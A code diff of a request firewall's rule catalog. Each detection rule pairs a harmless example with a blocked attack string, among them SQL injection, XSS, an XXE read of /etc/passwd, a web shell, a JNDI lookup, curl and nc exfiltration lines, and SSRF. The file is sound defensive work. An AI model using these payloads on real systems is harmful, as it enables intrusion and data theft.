@@ -1,21 +1,55 @@
 /**
- * The catalogue of the request firewall. The ids are part of the interface: an id is never used for something else, and a rule
- * that ends leaves its id unused. docs/api/firewall.md is written from here; both examples of each rule are run by a test.
+ * The catalog of the request firewall. The ids are part of the interface: an id is never used for something else, and a rule that ends
+ * leaves its id unused. `npm run docs` writes docs/api/firewall.md from here. A test runs both examples of each rule, and
+ * vectors/adversarial generates hostile texts from each pattern.
  */
-import { isScanner } from './agents.ts';
-import { readsBack, runsCode } from './code.ts';
-import { chains, substitutes } from './commands.ts';
-import { asksForHidden, climbs, holdsControls, namesSystemPath } from './paths.ts';
-import { abusesProtocol, filtersDirectory, isOperatorKey, looksUp, splitsHeader } from './protocol.ts';
-import { breaksAttribute, breaksString, carriesScript, declaresEntity, isScriptUrl, runsScript } from './script.ts';
-import { breaksOut, callsDatabase, cutsOff, goesOn, unites } from './sql.ts';
-import type { Level, Place, Subject } from './subject.ts';
-import { computes } from './templates.ts';
+import { CHAINS, CODE, OBJECTS, PROSE_CODE, SUBSTITUTIONS } from './commands.ts';
+import type { Pattern } from './pattern.ts';
+import {
+  DOT_SEGMENTS,
+  FILE_NAME_TRAVERSALS,
+  HIDDEN_FILES,
+  PROSE_TRAVERSALS,
+  SYSTEM_FILES,
+  TRAVERSALS,
+} from './paths.ts';
+import type { Place } from './place.ts';
+import {
+  CONTROLS,
+  FILTERS,
+  HEADER_PROTOCOLS,
+  OPERATORS,
+  PROSE_SPLITS,
+  PROTOCOLS,
+  SPLITS,
+  VALUE_OPERATORS,
+  ZERO_BYTES,
+} from './protocol.ts';
+import {
+  ATTRIBUTES,
+  ELEMENTS,
+  ENTITIES,
+  PROSE_ELEMENTS,
+  PROSE_ENTITIES,
+  PROSE_SCRIPT_TAGS,
+  PROSE_URLS,
+  SCRIPT_STRINGS,
+  SCRIPT_TAGS,
+  SCRIPT_URLS,
+} from './script.ts';
+import {
+  BREAKOUTS,
+  CUT_OFFS,
+  FUNCTIONS,
+  PROSE_BREAKOUTS,
+  PROSE_STATEMENTS,
+  PROSE_UNIONS,
+  STATEMENTS,
+  UNIONS,
+} from './sql.ts';
+import { EXPRESSIONS, LOOKUPS, PROSE_LOOKUPS } from './templates.ts';
 
 export type Severity = 'critical' | 'high' | 'medium' | 'low';
-
-/** How a text was written: as it stands, or in an encoding that was undone to get it. */
-export type Reading = { isEncoded: boolean };
 
 export type Rule = {
   readonly id: string;
@@ -23,250 +57,255 @@ export type Rule = {
   readonly finds: string;
   readonly blocked: Example;
   readonly passes: Example;
-  /** Where it is looked for; everywhere but in user agents unless given. */
-  readonly places?: readonly Place[];
-  /** One of these characters has to be there, or nothing is looked for; any text unless given. */
+  /** The patterns for each place. A place without patterns is not inspected by this rule. */
+  readonly patterns: Partial<Record<Place, readonly Pattern[]>>;
+  /** Its patterns of prose match only a whole text, so that it is no matter whether the text reads as a sentence. */
+  readonly isWhole?: true;
+  /** The text has to hold one of these characters; any text if omitted. */
   readonly needs?: string;
-  readonly judge: (subject: Subject, reading: Reading) => Level;
 };
 
 type Example = { readonly place: Place | 'agent'; readonly text: string };
 
+const strict = (text: string): Example => ({ place: 'strict', text });
 const prose = (text: string): Example => ({ place: 'prose', text });
-const TEXTS: readonly Place[] = ['prose', 'strict', 'file-name', 'path', 'header', 'key'];
+
+/** Everywhere but in prose and file names. */
+const machine = (own: readonly Pattern[]) => ({ strict: own, path: own, header: own, key: own });
+/** In prose and file names. */
+const written = (own: readonly Pattern[]) => ({ prose: own, 'file-name': own });
 
 export const RULES = [
   {
-    id: 'sql-breakout',
-    severity: 'critical',
-    finds:
-      'SQL that ends the value it is put into and goes on with the statement: a condition, a clause, a function or a statement behind a quote, a number or a parenthesis.',
-    blocked: prose("' OR '1'='1"),
-    passes: prose('O\'Brien & Sons -- "select" terms <draft>; drop by'),
-    needs: '\'"=();|&#*-',
-    judge: breaksOut,
-  },
-  {
-    id: 'sql-comment',
-    severity: 'high',
-    finds: 'A quote with a comment directly behind it, which cuts off the rest of a statement.',
-    blocked: prose("admin'--"),
-    passes: prose("The tenants' -- and the landlord's -- duties"),
-    needs: '\'"',
-    judge: cutsOff,
-  },
-  {
     id: 'sql-union',
     severity: 'critical',
-    finds: 'UNION SELECT with columns, wherever it stands, except in a sentence about it.',
-    blocked: prose('x UNION ALL SELECT null, version()'),
+    finds: 'UNION SELECT with columns.',
+    blocked: strict("'+UNION+SELECT+1,2,3--+"),
     passes: prose('Union Select Committee: minutes of 3 May'),
-    judge: unites,
+    patterns: { ...machine(UNIONS), ...written(PROSE_UNIONS) },
+    isWhole: true,
   },
   {
     id: 'sql-statement',
     severity: 'critical',
-    finds:
-      'A second statement behind a semicolon, or a condition that is always true, cut off or at the end of the text.',
-    blocked: prose('x; DROP TABLE users --'),
-    passes: prose('SQL course: SELECT name FROM customers WHERE city = 2; then joins'),
-    needs: '=;|&',
-    judge: goesOn,
+    finds: 'A second statement behind a semicolon, or a complete statement.',
+    blocked: prose("x'; DROP TABLE users; --"),
+    passes: prose('SELECT * FROM t;'),
+    patterns: { ...machine(STATEMENTS), ...written(PROSE_STATEMENTS) },
+    isWhole: true,
   },
   {
     id: 'sql-function',
     severity: 'high',
-    finds: 'Calls and selects in parentheses that payloads use to wait, to read files or to bring data out in errors.',
-    blocked: prose('extractvalue(1, concat(0x7e, (select user())))'),
+    finds: 'Functions and tables that payloads use to wait, to read files or to return data.',
+    blocked: strict('extractvalue(1, concat(0x7e, version()))'),
     passes: prose('How to sleep (8 hours) before the benchmark'),
-    needs: "('",
-    judge: callsDatabase,
+    patterns: machine(FUNCTIONS),
+    needs: '(@._$',
+  },
+  {
+    id: 'sql-breakout',
+    severity: 'critical',
+    finds:
+      'SQL that ends the value it was put into and continues the statement: a condition, a clause or an operator behind a quote, a number or a parenthesis.',
+    blocked: strict("x' OR email LIKE '%@%"),
+    passes: prose("' OR 1=1"),
+    patterns: { ...machine(BREAKOUTS), ...written(PROSE_BREAKOUTS) },
+    isWhole: true,
+  },
+  {
+    id: 'sql-comment',
+    severity: 'high',
+    finds: 'A quote followed by a comment that cuts off the rest of a statement.',
+    blocked: strict("admin'--"),
+    passes: prose("admin'--"),
+    patterns: machine(CUT_OFFS),
+    needs: '\'"`)-#/',
   },
   {
     id: 'script-tag',
     severity: 'critical',
-    finds: 'A script element with code in it or an address to load it from.',
+    finds: 'A script element. In prose, one whose code acts or is loaded from elsewhere.',
     blocked: prose('<script>alert(1)</script>'),
     passes: prose('Training: the <script> element in HTML'),
+    patterns: { ...machine(SCRIPT_TAGS), ...written(PROSE_SCRIPT_TAGS) },
     needs: '<',
-    judge: runsScript,
   },
   {
     id: 'script-element',
     severity: 'high',
-    finds:
-      'Any element that would run script: by an event handler, a script as its address, an active style, or because it loads a page by itself.',
+    finds: 'An element of HTML. In prose, one that runs code by an event handler or its address.',
     blocked: prose('<img src=x onerror=alert(1)>'),
     passes: prose('Prices <500 EUR, see <b>Annex A</b> and <anna@example.com>'),
-    needs: '<',
-    judge: carriesScript,
+    patterns: { ...machine(ELEMENTS), ...written(PROSE_ELEMENTS) },
+    needs: '<-]',
   },
   {
     id: 'script-attribute',
     severity: 'high',
-    finds: 'A quote that ends an attribute and begins an event handler.',
-    blocked: prose('" onmouseover="alert(1)'),
+    finds: 'An event handler that a value adds to an element.',
+    blocked: strict('" onmouseover="alert(1)'),
     passes: prose('"Based on": the offer, on site = at the customer\'s'),
+    patterns: machine(ATTRIBUTES),
     needs: '=',
-    judge: breaksAttribute,
   },
   {
     id: 'script-url',
     severity: 'high',
-    finds: 'An address that is a script: `javascript:`, `vbscript:`, `data:text/html`.',
+    finds: 'An address that is a script, such as `javascript:`, `vbscript:` or `data:text/html`.',
     blocked: prose('javascript:alert(document.cookie)'),
     passes: prose('JavaScript: The Good Parts'),
-    needs: ':',
-    judge: isScriptUrl,
+    patterns: { ...machine(SCRIPT_URLS), ...written(PROSE_URLS) },
+    needs: ':&',
   },
   {
     id: 'script-string',
     severity: 'high',
-    finds: 'A quote that ends a string of a script, with a call behind it, or code that reaches for cookies and pages.',
-    blocked: prose("';alert(1)//"),
-    passes: prose("The 'prompt' payment; alert (by e-mail) on delay"),
-    needs: '(`=[<',
-    judge: breaksString,
+    finds: 'Calls and properties of scripts that run code or reach for cookies and pages.',
+    blocked: strict("';alert(1)//"),
+    passes: prose('alert(ed)'),
+    patterns: machine(SCRIPT_STRINGS),
+    needs: '(`=[.@-',
   },
   {
     id: 'xml-entity',
     severity: 'high',
-    finds: 'An entity or a document type by which a parser of XML reads other files.',
+    finds: 'A document type or an entity of XML. In prose, an entity that reads a file.',
     blocked: prose('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
     passes: prose('Entity <Holding> and its system <draft>'),
+    patterns: { ...machine(ENTITIES), ...written(PROSE_ENTITIES) },
     needs: '<',
-    judge: declaresEntity,
   },
   {
     id: 'path-traversal',
     severity: 'high',
-    finds: 'Steps up out of a folder: three and more, with a file of the system behind them, or as all there is.',
-    blocked: prose('../../../etc/passwd'),
-    passes: prose('See ../annex for more ... and/or call us'),
-    needs: '/\\',
-    judge: climbs,
+    finds: 'Steps out of a folder. In prose, only a whole path to a file of the system.',
+    blocked: strict('.../.../win.ini'),
+    passes: prose('See ../../Schedule 2'),
+    patterns: {
+      ...machine(TRAVERSALS),
+      path: DOT_SEGMENTS,
+      prose: PROSE_TRAVERSALS,
+      'file-name': FILE_NAME_TRAVERSALS,
+    },
+    needs: './\\',
   },
   {
     id: 'path-system-file',
     severity: 'high',
-    finds: 'The path of a file of the system, as all there is.',
-    blocked: prose('/etc/passwd'),
-    passes: prose('C:\\Users\\Anna\\Documents\\Contract.docx'),
-    needs: '/\\.:',
-    judge: namesSystemPath,
+    finds: 'The path of a file of the system or of an application.',
+    blocked: strict('/etc/./passwd'),
+    passes: prose('/etc/passwd'),
+    patterns: { strict: SYSTEM_FILES, header: SYSTEM_FILES, key: SYSTEM_FILES },
+    needs: '/\\.:~_',
   },
   {
     id: 'path-hidden',
     severity: 'medium',
     finds:
-      'A request for files and folders that begin with a dot (`/.well-known` aside), and for what servers of other kinds keep private.',
-    blocked: { place: 'path', text: '/backup/.config/app' },
+      'A request for files and folders that begin with a dot (`/.well-known` excepted), and for what other kinds of servers keep private.',
+    blocked: { place: 'path', text: '/app/.env' },
     passes: { place: 'path', text: '/.well-known/security.txt' },
-    places: ['path'],
-    judge: asksForHidden,
+    patterns: { path: HIDDEN_FILES },
   },
   {
     id: 'control-character',
     severity: 'high',
-    finds: 'A zero byte, which ends a name for some programs; in what programs send, any other control character.',
+    finds: 'A zero byte in an encoded text, and in strict places any other control character.',
     blocked: { place: 'file-name', text: 'contract.php%00.pdf' },
     passes: { place: 'file-name', text: 'contract 100%.pdf' },
-    judge: (subject, { isEncoded }) => holdsControls(subject, isEncoded),
+    patterns: { ...machine(CONTROLS), 'file-name': ZERO_BYTES },
+  },
+  {
+    id: 'command-substitution',
+    severity: 'critical',
+    finds: 'A shell command in place of a value: `$(…)`, backticks, `<(…)`, `${IFS}`.',
+    blocked: strict('$(curl http://evil.example/x)'),
+    passes: prose('Introduction to shells: `ls`, `cd` and `rm` in one day'),
+    patterns: machine(SUBSTITUTIONS),
+    needs: '$`<>',
   },
   {
     id: 'command-chain',
     severity: 'critical',
     finds:
-      'A shell command that continues another one: behind `;`, `|`, `&` or a line break, with arguments or as the end.',
-    blocked: prose('report.pdf; rm -rf /'),
-    passes: prose('Terms | sort order; find below, cat & dog; date & sign'),
-    needs: ';|&\n\r',
-    judge: chains,
-  },
-  {
-    id: 'command-substitution',
-    severity: 'critical',
-    finds: 'A shell command in the place of a value: `$(…)`, backticks, `<(…)`, `${IFS}`.',
-    blocked: prose('$(curl http://evil.example/x)'),
-    passes: prose('Introduction to shells: `ls`, `cd` and `rm` in one day'),
-    needs: '$`<>',
-    judge: substitutes,
+      'A shell command that follows another one, behind `;`, `|`, `&` or a line break. In prose, one that reads the passwords of the system.',
+    blocked: strict('; tar cf - / | nc host 80'),
+    passes: prose('report.pdf; rm -rf dist'),
+    patterns: machine(CHAINS),
+    needs: ';|&\n\r`$</>- ',
   },
   {
     id: 'command-code',
     severity: 'critical',
     finds:
-      'Code that a server would run: functions of Bash in variables, server-side includes, PHP, calls of `system` and its like.',
-    blocked: prose("<?php system('id'); ?>"),
+      'Code that a server would run: functions of Bash in variables, server-side includes, PHP, calls of `system` and others. In prose, only web shells and reverse shells.',
+    blocked: prose("<?php system($_GET['cmd']); ?>"),
     passes: prose('The system (as delivered) may exec changes'),
-    needs: '(/<-',
-    judge: runsCode,
+    patterns: { ...machine(CODE), ...written(PROSE_CODE) },
+    needs: '(<_.#>$%`;',
   },
   {
     id: 'command-object',
     severity: 'high',
-    finds:
-      'Objects as programs write them down, which run code when they are read, and formulas of spreadsheets that start programs.',
-    blocked: prose('O:8:"Evil_Obj":1:{s:3:"cmd";s:2:"id";}'),
+    finds: 'Serialized objects that run code when they are read, and formulas of spreadsheets that start programs.',
+    blocked: strict('O:8:"Evil_Obj":1:{s:3:"cmd";s:2:"id";}'),
     passes: prose('= 5 % of the total, type: "A"'),
-    needs: '!:"=+@|\n',
-    judge: readsBack,
+    patterns: machine(OBJECTS),
   },
   {
     id: 'template-expression',
     severity: 'critical',
-    finds: 'An expression of a template engine that computes, calls or reaches an object.',
-    blocked: prose('{{7*7}}'),
-    passes: prose('Dear {{first_name}}, sign at {{signature:1}} for ${amount}'),
-    needs: '{<_@#[$',
-    judge: computes,
+    finds: 'An expression of a template engine.',
+    blocked: strict('{{7*7}}'),
+    passes: prose('{{7*7}} template note'),
+    patterns: machine(EXPRESSIONS),
   },
   {
     id: 'lookup-jndi',
     severity: 'critical',
-    finds: 'A lookup that a logger would carry out: `${jndi:…}` however it is spelled.',
+    finds: 'A lookup that a logger would carry out: `${jndi:…}` in any spelling.',
     blocked: prose('${${lower:j}ndi:ldap://evil.example/a}'),
     passes: prose('Total: ${price} per ${unit}'),
-    needs: '$',
-    judge: looksUp,
+    patterns: { ...machine(LOOKUPS), ...written(PROSE_LOOKUPS) },
+    needs: '$:',
   },
   {
     id: 'header-split',
     severity: 'high',
-    finds: 'A line break with a header of HTTP or of a mail behind it.',
-    blocked: prose('contract%0d%0aSet-Cookie: session=1'),
+    finds: 'A line break followed by a header of HTTP or of a mail.',
+    blocked: strict('contract%0d%0aSet-Cookie: session=1'),
     passes: prose('Dear Anna,\r\nSubject: our offer\r\nLocation: Berlin'),
+    patterns: { ...machine(SPLITS), ...written(PROSE_SPLITS) },
     needs: '\r\n\u2028\u560a\u560d',
-    judge: (subject, { isEncoded }) => splitsHeader(subject, isEncoded),
   },
   {
     id: 'header-misuse',
     severity: 'medium',
     finds:
-      'Headers in a form that proxies and servers read differently (lengths, encodings, hosts, connections, ranges), and headers that only attackers send a server such as this.',
+      'Headers in a form that proxies and servers read differently (lengths, encodings, hosts, connections, ranges), and headers that only attackers send to a server such as this.',
     blocked: { place: 'header', text: 'Transfer-Encoding: xchunked' },
     passes: { place: 'header', text: 'Transfer-Encoding: chunked' },
-    places: [],
-    judge: () => 0,
+    patterns: {},
   },
   {
     id: 'protocol-abuse',
     severity: 'high',
     finds:
-      'Addresses of protocols that make a server read its own files or call its neighbours, and of the metadata of clouds.',
-    blocked: prose('gopher://127.0.0.1:6379/_FLUSHALL'),
+      'Addresses of protocols that make a server read its own files or call its neighbors, and of the metadata services of clouds.',
+    blocked: strict('gopher://127.0.0.1:6379/_FLUSHALL'),
     passes: prose('About the file: see https://example.com/a and ftp access'),
-    needs: ':.',
-    judge: abusesProtocol,
+    patterns: { ...machine(PROTOCOLS), header: HEADER_PROTOCOLS },
+    needs: ':.x/9',
   },
   {
     id: 'ldap-filter',
     severity: 'medium',
     finds: 'A filter of a directory that is ended, with another one behind it.',
-    blocked: prose('*)(uid=*))(|(uid=*'),
+    blocked: strict('*)(uid=*))(|(uid=*'),
     passes: prose('Costs (a)(b) = 5 * (c)'),
+    patterns: machine(FILTERS),
     needs: '*(',
-    judge: filtersDirectory,
   },
   {
     id: 'operator-key',
@@ -274,42 +313,47 @@ export const RULES = [
     finds: 'An operator of a document database, or the prototype of an object, as the name of a member or a parameter.',
     blocked: { place: 'key', text: '$ne' },
     passes: { place: 'key', text: 'amount_in_$' },
-    needs: '$_.[@',
-    judge: isOperatorKey,
+    patterns: {
+      strict: VALUE_OPERATORS,
+      path: VALUE_OPERATORS,
+      header: VALUE_OPERATORS,
+      key: [...OPERATORS, ...VALUE_OPERATORS],
+    },
+    needs: '$_.[@!c',
   },
   {
     id: 'encoding-double',
     severity: 'medium',
-    finds:
-      'Something encoded twice: of what programs send, any sign that matters; of text, whatever another rule finds in it.',
-    blocked: prose('%253Cscript%253Ealert(1)%253C/script%253E'),
+    finds: 'In strict places, a sign that matters or an attack that was encoded twice.',
+    blocked: strict('%253Cscript%253Ealert(1)%253C/script%253E'),
     passes: prose('Save 20%25 with https://example.com/?a=b%20c'),
-    // Found by judge.ts, which undoes the encodings.
-    places: [],
-    judge: () => 0,
+    // judge.ts finds it while it undoes the encodings.
+    patterns: {},
   },
   {
     id: 'encoding-overlong',
     severity: 'high',
     finds: 'UTF-8 with more bytes than its character takes, which only hides it.',
-    blocked: prose('..%c0%af..%c0%afetc'),
-    passes: prose('Caf%C3%A9'),
-    places: [],
-    judge: () => 0,
+    blocked: strict('..%c0%af..%c0%afetc'),
+    passes: strict('Caf%C3%A9'),
+    patterns: {},
+  },
+  {
+    id: 'too-complex',
+    severity: 'medium',
+    finds: 'More to inspect than any program sends: the text of a request exceeds the inspection limit.',
+    blocked: strict('x '.repeat(40_000)),
+    passes: strict('x'.repeat(200)),
+    patterns: {},
   },
   {
     id: 'scanner-agent',
     severity: 'medium',
-    finds: 'The user agent of a program that looks for holes.',
+    finds: 'The user agent of a vulnerability scanner.',
     blocked: { place: 'agent', text: 'sqlmap/1.8.4#stable (https://sqlmap.org)' },
     passes: { place: 'agent', text: 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0' },
-    places: [],
-    judge: isScanner,
+    patterns: {},
   },
 ] as const satisfies readonly Rule[];
 
 export type RuleId = (typeof RULES)[number]['id'];
-
-/** The rules that a text of a place is put before, in the order in which they are named. */
-export const rulesFor = (place: Place): readonly Rule[] =>
-  (RULES as readonly Rule[]).filter(({ places }) => (places ?? TEXTS).includes(place));
